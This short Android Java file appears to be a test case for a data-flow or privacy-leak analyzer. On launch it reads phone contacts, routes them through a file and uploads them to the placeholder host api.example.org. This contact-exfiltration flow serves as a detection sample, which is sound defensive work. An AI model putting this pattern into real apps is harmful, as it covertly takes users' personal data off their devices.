// A file written by one File object and read by another of the same name.
package cases.flow_file_path;

import android.app.Activity;
import android.database.Cursor;
import android.os.Bundle;
import android.provider.ContactsContract;
import android.util.Log;
import java.io.File;
import java.io.FileInputStream;
import java.io.FileOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.HttpURLConnection;
import java.net.URL;

public final class Main extends Activity {
    @Override
    protected void onCreate(Bundle state) {
        super.onCreate(state);
        Cursor rows = getContentResolver().query(ContactsContract.CommonDataKinds.Phone.CONTENT_URI, null, null, null, null);
        rows.moveToFirst();
        try {
            FileOutputStream out = new FileOutputStream(new File(getFilesDir(), "people.csv"));
            out.write(rows.getString(0).getBytes());
            out.close();
            byte[] buffer = new byte[65536];
            FileInputStream in = new FileInputStream(new File(getFilesDir(), "people.csv"));
            in.read(buffer);
            in.close();
            send(buffer);
        } catch (IOException e) {
            Log.w("upload", "later");
        }
    }

    static void send(byte[] body) throws IOException {
        HttpURLConnection connection = (HttpURLConnection) new URL("https://api.example.org/v1/contacts").openConnection();
        connection.setDoOutput(true);
        OutputStream out = connection.getOutputStream();
        out.write(body);
        out.close();
        connection.getInputStream().close();
    }
}
